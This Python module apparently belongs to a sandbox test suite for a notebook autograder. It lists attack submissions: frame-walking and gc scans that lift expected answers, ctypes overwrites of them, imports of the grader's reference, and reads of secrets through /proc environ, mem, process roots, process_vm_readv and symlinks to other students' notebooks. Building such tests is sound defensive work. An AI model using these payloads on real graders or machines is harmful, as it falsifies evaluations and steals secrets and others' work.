"""Reading what is hidden: tests, the reference, other people's work, the grader's own process."""

from pathlib import Path
from typing import Any

from attacks._attack import Attack, Shown
from attacks.naive import reads_through_links

KIND = "reading what is hidden"


def _step(body: str) -> str:
    """The attacked function with another body."""
    lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
    return f"def momentum_step(theta, grad, state, *, lr, beta):\n{lines}\n"


# In the kernel of a naive grader the expected values are variables beside the call.
ANSWERS = {
    "frames": (
        "looks for the expected value in the frames of its callers",
        """
import sys
frame = sys._getframe()
while frame is not None:
    for scope in (frame.f_locals, frame.f_globals):
        if "expected" in scope:
            return scope["expected"], {"velocity": scope["expected_velocity"]}
    frame = frame.f_back
return theta * 0, state
""",
        "frames",
    ),
    "traceback-frames": (
        "gets at its callers' frames through an exception of its own",
        """
try:
    raise ValueError
except ValueError as error:
    frame = error.__traceback__.tb_frame.f_back
while frame is not None and "expected" not in frame.f_globals:
    frame = frame.f_back
return frame.f_globals["expected"], {"velocity": frame.f_globals["expected_velocity"]}
""",
        "frames",
    ),
    "gc": (
        "looks for the expected value among all objects in memory",
        """
import gc
for item in gc.get_objects():
    if type(item) is dict and "expected" in item and "expected_velocity" in item:
        return item["expected"], {"velocity": item["expected_velocity"]}
return theta * 0, state
""",
        "objects in memory",
    ),
    "overwrites-expected": (
        "overwrites the expected value in memory with its own wrong answer",
        """
import ctypes, gc
for item in gc.get_objects():
    if type(item) is dict and "expected" in item and "expected_velocity" in item:
        for name in ("expected", "expected_velocity"):
            ctypes.memset(item[name].data_ptr(), 0, 4 * item[name].numel())
return theta * 0, {"velocity": grad * 0}
""",
        "below Python",
    ),
    "imports-the-grader": (
        "imports the reference from the grader's package",
        """
from steepest_exercises.momentum.reference import momentum_step as reference
return reference(theta, grad, state, lr=lr, beta=beta)
""",
        "asks for the grader",
    ),
    "imports-the-grader-by-path": (
        "finds the grader's package by its path",
        """
import sys
sys.path.insert(0, "@GRADER@")
module = __import__("steepest_grader.exercise.catalogue", fromlist=["exercise"])
return module.exercise("momentum_step").reference(theta, grad, state, lr=lr, beta=beta)
""",
        "asks for the grader",
    ),
}

SECRETS = {
    "reads-a-file": ("opens a file of the instructor's", "print(open('@SECRET_FILE@').read())", ""),
    "climbs-up": (
        "reaches a file through its working folder and ..",
        "import os\nprint(open(os.path.join('/proc/self/cwd', *['..'] * 20) + '@SECRET_FILE@').read())",
        "names a place",
    ),
    "searches-files": (
        "lists folders until it finds a gradebook's neighbour",
        "import os\nfor name in os.listdir('@WORLD@'):\n    if name.endswith('.txt'):\n"
        "        print(open('@WORLD@/' + name).read())",
        "looks around",
    ),
    "reads-a-neighbour": (
        "opens another student's submission",
        "from pathlib import Path\nfor path in Path('@WORLD@').rglob('*.ipynb'):\n    print(path.read_text())",
        "looks around",
    ),
    "another-process-root": (
        "reaches a file through another process's root",
        "print(open('/proc/@PID@/root@SECRET_FILE@').read())",
        "",
    ),
    "every-root": (
        "reaches a file through the root of every process that it sees",
        "import os\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n        try:\n"
        "            print(open(f'/proc/{pid}/root@SECRET_FILE@').read())\n            break\n"
        "        except OSError:\n            pass",
        "looks around",
    ),
    "every-environment": (
        "reads the environment of every process that it sees",
        "import os\nfor pid in os.listdir('/proc'):\n    try:\n"
        "        text = open(f'/proc/{pid}/environ', 'rb').read()\n    except OSError:\n        continue\n"
        "    if b'STEEPEST_SECRET' in text:\n        print(text)",
        "looks around",
    ),
    "memory-of-a-process": (
        "reads another process's memory",
        "maps = open('/proc/@PID@/maps').read().splitlines()\n"
        "stack = next(line for line in maps if '[stack]' in line).split()[0]\n"
        "start, end = (int(part, 16) for part in stack.split('-'))\n"
        "with open('/proc/@PID@/mem', 'rb') as file:\n    file.seek(start)\n    memory = file.read(end - start)\n"
        "at = memory.find(b'STEEPEST_SECRET=')\nprint(memory[at:at + 60])",
        "names a place",
    ),
    "memory-by-system-call": (
        "reads another process's memory by a system call",
        "import ctypes\nmaps = open('/proc/@PID@/maps').read().splitlines()\n"
        "stack = next(line for line in maps if '[stack]' in line).split()[0]\n"
        "start, end = (int(part, 16) for part in stack.split('-'))\n"
        "class Vector(ctypes.Structure):\n    _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]\n"
        "buffer = ctypes.create_string_buffer(end - start)\n"
        "ours, theirs = Vector(ctypes.addressof(buffer), end - start), Vector(start, end - start)\n"
        "ctypes.CDLL(None).process_vm_readv(@PID@, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)\n"
        "at = buffer.raw.find(b'STEEPEST_SECRET=')\nprint(buffer.raw[at:at + 60])",
        "below Python",
    ),
}

# Told by the operating system of all that runs on the machine, some of it to the superuser alone.
MACHINE = """
for name in ("kpagecount", "kpageflags", "vmallocinfo", "slabinfo", "buddyinfo", "interrupts", "diskstats",
             "pressure/memory", "iomem", "timer_list"):
    try:
        with open(f"/proc/{name}", "rb") as file:
            print("BREACH: tells of the machine:", name, len(file.read(8)))
    except OSError as error:
        print(error)
"""

LEFT_OPEN = """
import os
for number in range(3, 256):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
        text = os.pread(number, 100, 0) if target.startswith("/") else b""
    except OSError:
        continue
    print(number, target, text)
"""

# What an earlier submission would have left in a process that served both.
EARLIER = """
prefix = bytes(reversed(b"-ruobhgien-tsepeets"))
found = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        part, rights = line.split()[:2]
        start, end = (int(number, 16) for number in part.split("-"))
        if not rights.startswith("rw") or end - start > 2**28:
            continue
        try:
            memory.seek(start)
            data = memory.read(end - start)
        except OSError:
            continue
        at = data.find(prefix)
        while at >= 0:
            found.add(data[at + len(prefix) : at + len(prefix) + 32])
            at = data.find(prefix, at + 1)
if any(text.isalnum() for text in found):
    print("BREACH", found)
"""


def _links_its_folder(folder: Path, data: bytes, world: Any) -> None:
    folder.rmdir()
    folder.symlink_to(world.folder)


ATTACKS = [
    *(
        Attack(name, KIND, tries, answer=_step(body), flag=flag, test="allclose")
        for name, (tries, body, flag) in ANSWERS.items()
    ),
    *(
        Attack(name, KIND, tries, code=code, shown=Shown.SAID, flag=flag or "names a place")
        for name, (tries, code, flag) in SECRETS.items()
    ),
    Attack(
        "input-history", KIND, "reads the test's source where IPython keeps it",
        answer=_step("print(get_ipython().user_ns['In'][-1])\nreturn theta * 0, state"),
        shown=Shown.SAID, flag="notebook's kernel",
    ),
    Attack(
        "source-lines", KIND, "reads the source of the code that calls it",
        answer=_step(
            "import linecache, sys\nframe = sys._getframe(1)\n"
            "while frame is not None:\n    if 'ipykernel' in frame.f_code.co_filename:\n        print(*linecache.getlines(frame.f_code.co_filename))\n"
            "    frame = frame.f_back\nreturn theta * 0, state"
        ),
        shown=Shown.SAID, flag="frames",
    ),
    Attack(
        "tells-of-the-machine", KIND, "reads what the operating system tells of memory, devices and load", code=MACHINE,
        shown=Shown.SAID, flag="names a place",
    ),
    Attack(
        "open-descriptors", KIND, "reads from files that the grader has left open", code=LEFT_OPEN, shown=Shown.NOT,
        why="a child of Python's inherits no open file, so there is none to find without a sandbox either",
        flag="looks around",
    ),
    Attack(
        "earlier-submissions", KIND, "searches its memory for what an earlier submission left there", code=EARLIER,
        shown=Shown.NOT, why="without a sandbox too every kernel is forked from a process that has run no submission",
        flag="names a place",
    ),
    Attack(
        "link-to-a-neighbour", "odd files in the submission", "hands in a symbolic link to another's notebook",
        folder=lambda folder, data, world: (folder / f"{folder.name}.ipynb").symlink_to(world.folder / "neighbour.ipynb"),
        earns={"ewa": 0, "terminal_speed": 0}, outcomes=frozenset({"UNREADABLE"}),
        shown=Shown.BELIEVED, believed=reads_through_links,
    ),
    Attack(
        "folder-of-a-neighbour", "odd files in the submission", "hands in a symbolic link to a folder of others' notebooks",
        folder=_links_its_folder, earns={"ewa": 0, "terminal_speed": 0}, outcomes=frozenset({"UNREADABLE"}),
        shown=Shown.BELIEVED, believed=reads_through_links,
    ),
]  # fmt: skip
